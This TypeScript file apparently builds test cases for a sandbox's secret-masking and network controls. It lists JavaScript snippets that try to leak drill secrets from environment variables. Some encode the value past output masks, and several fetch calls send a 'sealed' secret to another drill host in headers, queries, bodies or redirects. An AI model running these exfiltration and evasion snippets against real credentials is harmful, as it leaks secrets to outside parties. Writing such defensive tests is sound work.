import { DRILL_HOSTS, DRILL_SECRETS, type LeakAttempt } from './leak-attempt.js';

const MASK = `«${DRILL_SECRETS.exposed}»`;
const own = `https://${DRILL_HOSTS.bound}`;
const other = `https://${DRILL_HOSTS.other}`;

type Row = readonly [id: string, title: string, code: string, shows?: string];

function attempts(
  route: LeakAttempt['route'],
  rows: readonly Row[],
  more: Partial<LeakAttempt> = {},
): readonly LeakAttempt[] {
  return rows.map(([id, title, code, shows]) => ({
    id: `js-${id}`,
    title,
    route,
    language: 'javascript',
    code: `const key = process.env.${DRILL_SECRETS.exposed}, sealed = process.env.${DRILL_SECRETS.sealed};\n${code}`,
    ...(shows === undefined ? {} : { shows }),
    ...more,
  }));
}

const outputs: readonly Row[] = [
  ['print', 'Print the value', 'console.log(key)', MASK],
  ['print-error', 'Print the value to the error stream', 'console.error("it is " + key)', MASK],
  [
    'print-table',
    'Print the value in a table and an object',
    'console.table([{ key }]); console.log({ a: { b: [key] } })',
    MASK,
  ],
  ['split-writes', 'Print the value one character at a time', 'for (const c of key) process.stdout.write(c)', MASK],
  [
    'split-logs',
    'Print the value in two halves without a break',
    'process.stdout.write(key.slice(0, 9)); process.stdout.write(key.slice(9))',
    MASK,
  ],
  [
    'base64',
    'Print the value in base64, in three alignments',
    'for (const before of ["", "a", "ab"]) console.log(btoa(before + key))',
    MASK,
  ],
  ['base64url', 'Print the value in base64url', 'console.log(Buffer.from(key).toString("base64url"))', MASK],
  ['base64-twice', 'Print the value in base64 of base64', 'console.log(btoa(btoa(key)))', MASK],
  [
    'base64-utf16',
    'Print the value in base64 of UTF-16',
    'console.log(Buffer.from(key, "utf16le").toString("base64"))',
    MASK,
  ],
  [
    'hex',
    'Print the value in hex, small and capital',
    'const h = Buffer.from(key).toString("hex"); console.log(h, h.toUpperCase())',
    MASK,
  ],
  [
    'hex-separated',
    'Print the value in hex with colons',
    'console.log(Buffer.from(key).toString("hex").match(/../g).join(":"))',
    MASK,
  ],
  [
    'percent',
    'Print the value with every byte as %XX',
    'console.log([...Buffer.from(key)].map((b) => "%" + b.toString(16)).join(""))',
    MASK,
  ],
  [
    'unicode-escapes',
    'Print the value in \\u escapes',
    'console.log([...key].map((c) => "\\\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join(""))',
    MASK,
  ],
  [
    'html',
    'Print the value in HTML entities',
    'console.log([...key].map((c) => "&#" + c.charCodeAt(0) + ";").join(""))',
    MASK,
  ],
  ['numbers', 'Print the value as a list of numbers', 'console.log([...Buffer.from(key)].join(","))', MASK],
  ['reversed', 'Print the value backwards', 'console.log([...key].reverse().join(""))', MASK],
  ['zero-width', 'Print the value with invisible characters in between', 'console.log([...key].join("\\u200b"))', MASK],
  ['json', 'Print the value inside JSON inside JSON', 'console.log(JSON.stringify(JSON.stringify({ key })))', MASK],
];

const ends: readonly Row[] = [
  ['return', 'Return the value', 'return { key, again: [key] }', MASK],
  ['return-encoded', 'Return the value in base64', 'return btoa("x" + key)', MASK],
];

const errors: readonly Row[] = [
  ['throw', 'Throw the value', 'throw new Error("it was " + key)', MASK],
  ['throw-name', 'Throw the value as the name of an error', 'const e = new Error("x"); e.name = key; throw e', MASK],
  ['throw-cause', 'Throw the value as a cause', 'throw new Error("x", { cause: key })'],
  ['bad-url', 'Put the value into an address that fails', 'await fetch("https://" + key + ".invalid/" + key)'],
];

const requests: readonly Row[] = [
  [
    'log-path',
    'Put the value into the path of a request, which is kept for the receipt',
    `await fetch("${own}/" + encodeURIComponent(key))`,
    MASK,
  ],
  [
    'sealed-header',
    'Send the sealed value to another host, in a header',
    `await fetch("${other}/", { headers: { authorization: "Bearer " + sealed } })`,
  ],
  ['sealed-query', 'Send the sealed value to another host, in the query', `await fetch("${other}/?key=" + sealed)`],
  [
    'sealed-body',
    'Send the sealed value to another host, in the body',
    `await fetch("${other}/", { method: "POST", body: JSON.stringify({ sealed }) })`,
  ],
  [
    'sealed-base64',
    'Send the sealed value to another host, in base64',
    `await fetch("${other}/", { headers: { authorization: "Basic " + btoa("user:" + sealed) } })`,
  ],
  [
    'sealed-redirect',
    'Let its host redirect the sealed value to another',
    `await fetch("${own}/redirect", { method: "POST", headers: { "x-key": sealed }, body: "a" })`,
  ],
  [
    'sealed-http',
    'Send the sealed value without encryption',
    `await fetch("${own.replace('https', 'http')}/", { headers: { "x-key": sealed } })`,
  ],
];

const answers: readonly Row[] = [
  [
    'echo',
    'Print an answer that echoes the value',
    `console.log(await (await fetch("${own}/echo", { headers: { "x-key": key } })).text())`,
    MASK,
  ],
  [
    'sealed-echo',
    'Print an answer that echoes the sealed value',
    `console.log(await (await fetch("${own}/echo", { headers: { "x-key": sealed } })).text())`,
    `«${DRILL_SECRETS.sealed}»`,
  ],
  [
    'sealed-echo-gzip',
    'Compare a compressed answer that echoes the sealed value, letter by letter',
    `const t = await (await fetch("${own}/echo-gzip", { headers: { "x-key": sealed } })).text(); console.log([...t].map((c) => c.charCodeAt(0).toString(36)).join("_"), "seen")`,
    'seen',
  ],
  ['sealed-print', 'Print the sealed value', 'console.log(sealed, btoa(sealed))', `«${DRILL_SECRETS.sealed}»`],
];

/** Writes a text so that no mask would be found in it. */
const SPELLED = '[...text].map((c) => c.charCodeAt(0).toString(36)).join("_")';

const signatures: readonly Row[] = [
  [
    'sign',
    'Have things signed with the sealed value, and look for it in what comes back',
    `const text = [await secrets.hmac("${DRILL_SECRETS.sealed}", ""), await secrets.hmac("${DRILL_SECRETS.sealed}", "x", { encoding: "base64", algorithm: "SHA-512" }), await secrets.signJwt("${DRILL_SECRETS.sealed}", { a: 1 }), JSON.stringify(await secrets.signAwsV4({ secretAccessKey: "${DRILL_SECRETS.sealed}", accessKeyId: "A", region: "r", service: "s3", url: "${own}/" }))].join(" ");
console.log(${SPELLED}, "signed")`,
    'signed',
  ],
  [
    'sign-parts',
    'Have a beginning of the sealed value taken as the key, which could be guessed',
    `const tried = []; for (const keyEncoding of ["hex", "base64"]) tried.push(await secrets.hmac("${DRILL_SECRETS.sealed}", "x", { keyEncoding }).then(() => "made", () => "refused"));
console.log(tried.join(" "))`,
    'refused refused',
  ],
  [
    'sign-token',
    'Have the sealed value signed as a session token, and look for it in the headers',
    `const text = JSON.stringify(await secrets.signAwsV4({ secretAccessKey: "${DRILL_SECRETS.exposed}", sessionToken: sealed, accessKeyId: "A", region: "r", service: "s3", url: "${own}/" }));
console.log(${SPELLED}, "signed")`,
    'signed',
  ],
];

const files: readonly Row[] = [
  [
    'file',
    'Write the value into a file of the workspace',
    'const fs = require("fs"); fs.writeFileSync("/workspace/a.txt", key); fs.writeFileSync("/workspace/" + key.slice(0, 12) + key.slice(12) + ".txt", btoa(key))',
  ],
];

/** What careless and hostile JavaScript does with a value. */
export const JAVASCRIPT_ATTEMPTS: readonly LeakAttempt[] = [
  ...attempts('output', outputs),
  ...attempts('result', ends),
  ...attempts('error', errors),
  ...attempts('request', requests),
  ...attempts('answer', answers),
  ...attempts('output', signatures),
  ...attempts('file', files),
  ...attempts(
    'use',
    [
      [
        'use',
        'Use the value as it is meant: its host gets it',
        `await fetch("${own}/", { headers: { "x-key": key } })`,
      ],
    ],
    { hosts: 'exposed-value' },
  ),
  ...attempts(
    'use',
    [
      [
        'sealed-use',
        'Use the sealed value as it is meant: its host gets it',
        `await fetch("${own}/", { headers: { authorization: "Bearer " + sealed } })`,
      ],
    ],
    { hosts: 'sealed-value' },
  ),
];
